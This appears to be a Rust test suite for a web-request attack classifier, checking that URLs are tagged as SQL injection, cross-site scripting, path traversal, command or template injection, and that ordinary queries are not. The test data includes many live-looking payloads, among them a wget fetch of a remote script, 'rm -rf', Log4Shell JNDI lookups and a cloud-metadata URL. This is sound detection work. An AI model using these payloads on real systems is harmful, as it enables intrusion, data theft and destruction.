use super::*;
use proptest::prelude::*;

#[track_caller]
fn check(expected: Option<Attack>, targets: &[&str]) {
    for target in targets {
        assert_eq!(classify(target.as_bytes()), expected, "{target}");
    }
}

#[test]
fn the_shapes_compile() {
    assert!(SET.is_some());
}

#[test]
fn sql_injection() {
    check(
        Some(Attack::SqlInjection),
        &[
            "/p?id=1'+OR+'1'='1",
            "/p?id=1%27%20or%201=1--+-",
            "/p?id=1+or+1=1",
            "/p?id=-1+UNION+ALL+SELECT+1,2,3",
            "/p?id=1/**/union/**/select/**/password",
            "/p?id=1%2527%2520AND%2520SLEEP(5)",
            "/p?id=1;WAITFOR+DELAY+'0:0:5'",
            "/p?id=1+and+extractvalue(1,concat(0x7e,user()))",
            "/p?name=admin'--",
            "/p?id=1'+and+ascii(substr(x,1,1))>5",
            "/p?id=1;drop+table+users",
            "/p?id=1\\x27 or \\x271\\x27=\\x271",
            "/p?q=(select+count(*)+from+information_schema.tables)",
        ],
    );
}

#[test]
fn scripts() {
    check(
        Some(Attack::CrossSiteScripting),
        &[
            "/s?q=<script>alert(1)</script>",
            "/s?q=%3Cscript%20src=//x%3E",
            "/s?q=%253Csvg%2520onload%253Dalert%25281%2529%253E",
            "/s?q=%22%20onerror=%22x",
            "/s?u=javascript:alert(1)",
            "/s?q=%3Cimg+src=x+onerror=1%3E",
            "/s?q=%u003cscript%u003e",
        ],
    );
}

#[test]
fn paths_and_files() {
    check(
        Some(Attack::PathTraversal),
        &[
            "/../../../../etc/passwd",
            "/cgi-bin/.%2e/.%2e/bin/sh",
            "/a?f=..%2f..%2fx",
            "/a?f=..%252f..%252fx",
            "/a?f=..\\..\\windows",
            "/static/..%c0%af..%c0%afx",
            "/a/../.env",
        ],
    );
    check(
        Some(Attack::FileInclusion),
        &[
            "/a?f=/etc/passwd",
            "/a?f=php://filter/convert.base64-encode/resource=index",
            "/a?f=file:///x",
            "/a?f=c:\\windows\\x",
            "/a?u=http://169.254.169.254/latest/meta-data",
        ],
    );
    check(Some(Attack::NullByte), &["/a?f=x%00.jpg"]);
}

#[test]
fn commands_and_templates() {
    check(
        Some(Attack::CommandInjection),
        &[
            "/a?h=1;cat%20/x",
            "/a?h=1|id",
            "/a?h=1%7Cwhoami",
            "/a?h=$(id)",
            "/a?h=`id`",
            "/a?h=1;wget+http://x/y.sh",
            "/a?h=1%26%26ping+-c+1+x",
            "/shell?cd+/tmp;rm+-rf+*",
            "/?s=/Index/invokefunction&function=call_user_func_array&vars[0]=md5",
            "/a?x=phpinfo()",
        ],
    );
    check(
        Some(Attack::TemplateInjection),
        &[
            "/a?x=${jndi:ldap://x/a}",
            "/$%7Bjndi:dns://x%7D",
            "/a?x=${${lower:j}ndi:x}",
            "/a?x={{7*7}}",
            "/a?x=${7*7}",
            "/a?x={{config.items()}}",
            "/a?x=%{(#_memberAccess=1)}",
        ],
    );
    check(
        Some(Attack::HeaderInjection),
        &["/a?x=1%0d%0aSet-Cookie:%20a=b"],
    );
}

#[test]
fn probes_are_no_payloads() {
    check(
        Some(Attack::Probe),
        &["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/"],
    );
    assert!(!Attack::Probe.is_payload() && Attack::SqlInjection.is_payload());
}

#[test]
fn ordinary_targets_are_clean() {
    check(
        None,
        &[
            "/",
            "",
            "*",
            "/api/v1/users/5?page=2&sort=name",
            "/s?q=o'reilly",
            "/s?q=o%27reilly+and+sons",
            "/s?q=rock+'n'+roll+or+jazz",
            "/s?q=select+shoes",
            "/s?q=select+shoes,+boots+from+our+shop",
            "/s?q=union+square",
            "/s?q=student+union+selects+president",
            "/s?q=drop+table+saw",
            "/s?q=javascript:+the+good+parts",
            "/s?q=sleep+(5+hours)",
            "/s?q=cats;+dogs+|+birds",
            "/s?q=milk;+cat+food",
            "/s?q=a+%26+b",
            "/s?q=1+<+2+and+3+>+2",
            "/s?q=C%2B%2B+%3Cvector%3E",
            "/s?q=it's+5+o'clock+--+somewhere",
            "/login?redirect=https://example.com/a?b=c",
            "/login?redirect=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc",
            "/a?next=/account/profile",
            "/a?t=10:30:00&range=1..5",
            "/a/../b",
            "/img/{{item.image}}",
            "/a?filter={\"name\":\"x\",\"age\":{\"$gt\":5}}",
            "/a?fields=id,name(first,last)&expand=(a)",
            "/a?q=price:[10+TO+20]+AND+type:book",
            "/odata?$filter=Name+eq+'Milk'+and+Price+lt+2",
            "/browse?jql=project+=+'A'+AND+status+=+'Open'",
            "/a;jsessionid=12?x",
            "/wiki/Order_by_number_(film)",
            "/a?onload=1&script=x&cat=5;id=6",
            "/a?q=system+(of+a+down)",
            "/a?q=50%25+off",
        ],
    );
}

#[test]
fn long_targets_take_bounded_time() {
    for piece in [
        "%25", "'", "/*", "${", "{{", "../", " or 1", "\\x", "select ",
    ] {
        let target = format!("/?{}", piece.repeat((1 << 20) / piece.len()));
        let start = std::time::Instant::now();
        classify(target.as_bytes());
        assert!(start.elapsed().as_secs() < 2, "{piece}");
    }
}

proptest! {
    #[test]
    fn encoding_hides_nothing(attack in prop::sample::select(vec![
        "' or 1=1", "<script>x", "../../x", ";cat /x", "${jndi:x}", "1 union select 2",
    ]), times in 0usize..3) {
        let mut text = attack.to_owned();
        for _ in 0..times {
            text = text.bytes().map(|byte| match byte {
                b'a'..=b'z' | b'0'..=b'9' => char::from(byte).to_string(),
                _ => format!("%{byte:02X}"),
            }).collect();
        }
        let plain = classify(format!("/a?x={attack}").as_bytes());
        prop_assert!(plain.is_some_and(Attack::is_payload));
        prop_assert_eq!(classify(format!("/a?x={text}").as_bytes()), plain);
    }

    #[test]
    fn any_bytes_are_taken(target in prop::collection::vec(any::<u8>(), 0..300)) {
        if let Some(attack) = classify(&target) {
            prop_assert!(!attack.name().is_empty());
        }
    }
}
